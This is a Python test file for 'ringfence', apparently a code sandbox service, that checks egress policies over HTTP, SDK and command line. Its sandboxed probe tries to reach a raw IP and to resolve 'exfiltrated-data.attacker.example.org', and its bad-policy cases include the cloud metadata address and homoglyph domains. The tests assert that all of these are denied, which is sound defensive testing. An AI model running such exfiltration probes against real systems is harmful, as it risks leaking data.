"""Egress through the front door: HTTP, SDK and command line of a real server. Nothing here leaves this machine.

Only what is denied is asked for, and denied without asking anybody.
"""

from __future__ import annotations

import json
import os
import time
from collections.abc import Iterator
from typing import Any

import pytest

from ringfence import Client, Sandbox
from ringfence.domain.errors import BadRequest, RingfenceError
from tests.network.lab import needed
from tests.support.served import Served, served
from tests.support.subjects import SUBJECTS

JAIL = next(subject for subject in SUBJECTS if subject.name == "jail")
ASK = """
import socket, time, urllib.request, urllib.error
began = time.monotonic()
try:
    urllib.request.urlopen("http://45.33.1.20/", timeout=60)
except urllib.error.HTTPError as error:
    print(error.code, error.read().decode().strip())
except OSError as error:
    print(error)
try:
    print(socket.gethostbyname("exfiltrated-data.attacker.example.org"))
except OSError as error:
    print("no name")
print(time.monotonic() - began < 30)
"""


@pytest.fixture(scope="module")
def server() -> Served:
    """The one of the session."""
    needed()
    if JAIL.missing():
        if os.environ.get("CI") == "true":
            pytest.fail(JAIL.missing())
        pytest.skip(JAIL.missing())
    return served()


@pytest.fixture
def client(server: Served) -> Iterator[Client]:
    """A client of it."""
    with server.client() as made:
        yield made


def denials(client: Client, sandbox: str) -> list[dict[str, Any]]:
    """What its owner can read about it, once it is written: the connection and the name that it was denied."""
    deadline = time.monotonic() + 60
    while time.monotonic() < deadline:
        found = [e for e in client.why(sandbox).events if e.type == "egress.denied"]
        if len(found) >= 2:
            return [event.data for event in found]
        time.sleep(0.1)
    return []


def test_a_run_with_a_bundle_hears_no_for_everything_else(client: Client) -> None:
    """The program reads why; without egress it has no network to ask by."""
    said = client.run(ASK, egress={"bundles": ["pypi"]}).stdout.splitlines()
    assert said[0].startswith("403 ringfence: denied: ")
    assert said[1:] == ["no name", "True"]
    said = client.run(ASK).stdout.splitlines()
    assert "unreachable" in said[0]
    assert said[1:] == ["no name", "True"]


def test_a_sandbox_shows_its_policy_and_its_denials(client: Client) -> None:
    """What it may reach, who denied it what and why; and a policy put in its place takes over."""
    with Sandbox.create(egress=["api.example.com"], client=client) as sandbox:
        assert sandbox.info.egress["allow"] == [{"domain": "api.example.com", "ports": [443], "protocol": "tls"}]
        sandbox.run(code=ASK)
        told = denials(client, sandbox.id)
        assert {"45.33.1.20", ""} >= {event["address"] for event in told}
        assert any("not on this sandbox's list" in event["reason"] for event in told)
        changed = sandbox.allow({"bundles": ["debian"]})
        assert {rule["domain"] for rule in changed.egress["allow"]} == {"deb.debian.org", "security.debian.org"}
        assert sandbox.allow("none").egress == {"mode": "none"}
        assert sandbox.refresh().egress == {"mode": "none"}


def test_a_reset_keeps_the_policy_of_now(client: Client) -> None:
    """Not the one it was made with, and in force before the answer: what is denied is denied in words."""
    with Sandbox.create(egress=["api.example.com"], client=client) as sandbox:
        changed = sandbox.allow({"bundles": ["debian"]}).egress
        for _ in range(2):
            assert sandbox.reset().egress == changed
            assert sandbox.run(code=ASK).stdout.splitlines()[0].startswith("403 ringfence: denied")
        sandbox.allow("none")
        assert sandbox.reset().egress == {"mode": "none"}
        assert "403" in sandbox.run(code=ASK).stdout
        assert sandbox.allow({"bundles": ["debian"]}).egress == changed


@pytest.mark.parametrize(
    ("egress", "why"),
    [
        (["ok.example.com", "Bad.example.com"], "rule 1 domain 'Bad.example.com' has upper case"),
        ([{"cidr": "169.254.169.254", "ports": [80]}], "rule 0 is for 169.254.169.254/32, which is below"),
        (["a.*.com"], "rule 0 .*wildcard"),
        (["a.example.com."], "rule 0 .*dot"),
        (["a\0.example.com"], "rule 0 .*NUL"),
        (["ex\u0430mple.com"], "rule 0 .*ASCII"),
        ([f"h{n}.example.com" for n in range(10_000)], "10000 rules"),
        ({"bundles": ["everything"]}, "no bundle"),
        ("internet", "must be"),
    ],
)
def test_a_bad_policy_is_refused_at_the_door(client: Client, egress: Any, why: str) -> None:
    """With the rule's index and reason, before anything is started, for runs, sandboxes and changes alike."""
    with pytest.raises(BadRequest, match=why):
        client.run("print(1)", egress=egress)
    with Sandbox.create(egress=[], client=client) as sandbox, pytest.raises(BadRequest, match=why):
        sandbox.allow(egress)


def test_a_sandbox_without_a_network_cannot_get_one(client: Client) -> None:
    """It has no interface, and is told what to do instead."""
    with Sandbox.create(client=client) as sandbox, pytest.raises(RingfenceError, match="without a network") as refused:
        sandbox.allow(["api.example.com"])
    assert refused.value.code == "no_network"


def test_every_runtime_enforces_it_or_says_why_not(client: Client) -> None:
    """Containers and gVisor as the jail; whoever cannot refuses, with the reason, and runs nothing."""
    here = {runtime.name: runtime for runtime in client.runtimes() if runtime.available}
    for name, runtime in here.items():
        if runtime.capabilities["offline"]:
            with pytest.raises(RingfenceError, match="cannot enforce an egress policy") as refused:
                client.run("print(1)", isolation=name, egress=[])
            assert refused.value.code == "egress_unsupported"
        else:
            run = client.run(ASK, isolation=name, egress=["api.example.com"])
            assert run.stdout.splitlines()[0].startswith("403 ringfence: denied: ")
            assert run.stdout.splitlines()[1:] == ["no name", "True"]
            assert len({told["reason"] for told in denials(client, run.id)}) >= 1
    assert not here["jail"].capabilities["offline"]


def test_the_command_line(server: Served) -> None:
    """A bundle and a host, by --egress."""
    ran = server.run("run", "--egress", "pypi", "--egress", "api.example.com", "--code", ASK)
    assert ran.stdout.decode().startswith("403 ringfence: denied")
    made = server.run("--json", "sandbox", "create", "--egress", "npm")
    if made.returncode:
        made = server.run("sandbox", "create", "--egress", "npm", "--json")
    shown = json.loads(made.stdout)
    assert shown["egress"]["allow"][0]["domain"] == "registry.npmjs.org"
    server.run("sandbox", "stop", shown["id"])
    with server.client() as client:
        run = client.run(ASK, egress=["api.example.com"])
        assert denials(client, run.id)
    why = server.run("why", run.id, "--denied").stdout.decode()
    assert "exfiltrated-data.attacker.example.org" in why
    assert "no rule for GET http://45.33.1.20/" in why or "its Host ends in a number" in why
    bad = server.run("run", "--egress", "x.*.com", "--code", "print(1)")
    assert bad.returncode
    assert b"rule 0" in bad.stderr
